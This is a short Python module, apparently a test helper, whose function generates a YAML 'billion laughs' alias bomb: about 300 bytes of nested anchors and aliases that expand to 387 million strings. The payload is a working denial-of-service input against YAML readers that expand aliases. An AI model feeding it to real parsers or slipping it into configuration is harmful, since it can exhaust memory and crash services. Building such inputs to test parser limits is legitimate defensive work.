"""YAML that attacks whoever expands it: the "billion laughs" alias bomb."""

from __future__ import annotations

import itertools

__all__ = ["alias_bomb"]

_NAMES = "abcdefghi"


def alias_bomb(indent: str = "") -> str:
    """
    Nine lists of nine, each item of a list an alias of the list before: 300 bytes
    that a reader expanding aliases turns into 9**9 (387 million) strings.
    """
    lines = [f"a: &a [{','.join(['x'] * 9)}]"]
    for previous, name in itertools.pairwise(_NAMES):
        lines.append(f"{name}: &{name} [{','.join([f'*{previous}'] * 9)}]")
    return "".join(f"{indent}{line}\n" for line in lines)
